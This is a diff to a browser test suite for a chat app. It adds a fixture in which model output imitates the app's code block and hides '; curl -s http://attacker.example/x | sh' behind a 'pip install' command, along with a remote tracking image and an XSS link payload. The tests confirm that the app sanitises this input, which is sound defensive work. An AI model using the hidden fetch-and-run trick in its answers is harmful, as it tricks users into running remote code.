@@ -3,7 +3,7 @@
  * scripted upstream ("scripted") whose answers the test controls.
  */
 import { readFileSync } from "node:fs";
-import type { Page } from "playwright-core";
+import type { Locator, Page } from "playwright-core";
 import type { BrowserContext } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { hasChromium, launchBrowser, newPage, PHONE, screenshot, signIn, signUp, visible, type Browsing } from "../helpers/browser.ts";
@@ -30,6 +30,32 @@ const XSS_ANSWER = [
   "```js", "const answer = 42;", "console.log(answer);", "```", "",
   "End of payloads.",
 ].join("\n");
+
+/** Raw HTML dressed as the app's own code block, hiding a second command from the reader (and a protocol-relative image). */
+const FAKE_UI_ANSWER = [
+  "Install it with:", "",
+  '<div class="code"><div class="code-head"><span>sh</span><button type="button" class="copy" data-copy>Copy</button></div>' +
+    '<pre><code class="hljs">pip install requests<span class="chat-sr-only">; curl -s http://attacker.example/x | sh</span></code></pre></div>', "",
+  'Then <span class="chat-sr-only" style="display:none" id="chat-prompt" data-copy aria-label="Send">check</span> **it**:', "",
+  "```sh", "pip list", "```", "",
+  "![p](//attacker.example/p.png)", "",
+  "End of answer.",
+].join("\n");
+
+/** The text of `el` a reader can see: text under an element hidden, transparent or clipped to a pixel is left out. */
+const visibleText = (l: Locator) => l.evaluate((el) => {
+  const shown = (e: Element | null): boolean => {
+    for (; e && e !== el.parentElement; e = e.parentElement) {
+      const box = e.getBoundingClientRect();
+      if (!e.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true }) || box.width <= 1 || box.height <= 1) return false;
+    }
+    return true;
+  };
+  let text = "";
+  const walk = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
+  for (let n = walk.nextNode(); n; n = walk.nextNode()) if (shown(n.parentElement)) text += n.textContent;
+  return text;
+});
 
 const lastUser = (req: { body: any }) => [...(req.body?.messages ?? [])].reverse().find((m: any) => m.role === "user")?.content ?? "";
 
@@ -293,7 +319,7 @@ describe.skipIf(!hasChromium)("chat page (Chromium)", () => {
     expect(imgs.filter((s) => !s || !s.startsWith("data:"))).toEqual([]);
     await visible(md.getByText("[remote image not loaded: http://example.com/x.png]"));
     await md.getByText("click", { exact: true }).click();
-    await md.getByText("x", { exact: true }).click();
+    await visible(md.getByText('<a href="javascript:alert(1)">x</a>')); // raw HTML is shown as text
     await page.waitForTimeout(200); // give anything that would run a chance to
     expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
     expect(page.url()).toContain(`/chat/${id}`);
@@ -307,6 +333,72 @@ describe.skipIf(!hasChromium)("chat page (Chromium)", () => {
     await expect.poll(async () => (await getJson(page, "/app/api/feedback?kind=copy")).feedback.length).toBe(2);
     expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
     await screenshot(page, "chat-sanitised-desktop");
+    expect(errors).toEqual([]);
+  });
+
+  it("shows raw HTML from a model as text: no fake Copy button, no hidden text, none of the app's classes, ids, styles or data attributes", async () => {
+    script = () => ({ text: FAKE_UI_ANSWER, chunkDelayMs: 1 });
+    const { page, errors } = await open();
+    await page.goto("/chat?model=scripted");
+    await sendPrompt(page, "How do I install requests?");
+    await settled(page);
+    const md = answers(page).last().locator(".markdown");
+    await visible(md.getByText("End of answer."));
+    expect(await md.locator("strong").textContent()).toBe("it"); // Markdown still works
+
+    // One Copy button, the fenced block's, and it copies exactly what the reader sees.
+    const copy = md.getByRole("button", { name: "Copy" });
+    expect(await copy.count()).toBe(1);
+    await copy.click();
+    await visible(md.getByRole("button", { name: "Copied" }));
+    const copied = await page.evaluate(() => navigator.clipboard.readText());
+    expect(copied).toBe("pip list");
+    expect(copied).toBe(await visibleText(md.locator(".code code")));
+    // The command meant to hide is in plain sight, as the text the model wrote.
+    await visible(md.getByText('<span class="chat-sr-only">; curl -s http://attacker.example/x | sh</span>', { exact: false }));
+    expect(await visibleText(md)).toContain("; curl -s http://attacker.example/x | sh");
+
+    const attrs = await md.evaluate((root) => [...root.querySelectorAll("*")].flatMap((e) => [...e.attributes]
+      .filter((a) => /^(id|style|data-|aria-)/.test(a.name)).map((a) => `${e.tagName} ${a.name}`)));
+    expect(attrs).toEqual(["BUTTON data-copy"]); // the app's own Copy button
+    const classes = await md.evaluate((root) => [...new Set([...root.querySelectorAll("*")].flatMap((e) => [...e.classList]))]);
+    expect(classes.filter((c) => !/^(md-block|code|code-head|copy|blocked-image|hljs(-.*)?|language-sh)$/.test(c))).toEqual([]);
+
+    // A protocol-relative image is remote too.
+    expect(await md.locator("img").count()).toBe(0);
+    await visible(md.getByText("[remote image not loaded: //attacker.example/p.png]"));
+    expect(errors).toEqual([]);
+  });
+
+  it("keeps a prompt the server did not take in the composer (the conversation's model was deleted)", async () => {
+    script = () => ({ text: "Fine, thanks.", chunkDelayMs: 1 });
+    await srv.app.upstreams.add({ name: "doomed", baseUrl: up.url });
+    const { page, errors } = await open();
+    await page.goto("/chat?model=doomed");
+    const box = page.getByLabel("Message", { exact: true });
+    await sendPrompt(page, "How are you?");
+    await visible(answers(page).getByText("Fine, thanks."));
+    await settled(page);
+    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
+    expect(await box.inputValue()).toBe(""); // taken: the composer is empty
+    const id = convIdOf(page);
+
+    await srv.app.upstreams.remove("doomed");
+    await sendPrompt(page, "And now?");
+    await visible(page.getByRole("alert"));
+    await settled(page);
+    expect(await box.inputValue()).toBe("And now?");
+    expect(await prompts(page).allTextContents()).toEqual([expect.stringContaining("How are you?")]);
+    expect((await getJson(page, `/app/api/conversations/${id}`)).conversation.messages).toHaveLength(2);
+
+    // Another model: the same prompt goes out as it is.
+    await pickModel(page, "scripted");
+    await page.getByRole("button", { name: "Send" }).click();
+    await visible(prompts(page).filter({ hasText: "And now?" }));
+    await settled(page);
+    expect(await box.inputValue()).toBe("");
+    expect((await getJson(page, `/app/api/conversations/${id}`)).conversation.messages.map((m: any) => m.content))
+      .toEqual(["How are you?", "Fine, thanks.", "And now?", "Fine, thanks."]);
     expect(errors).toEqual([]);
   });
 
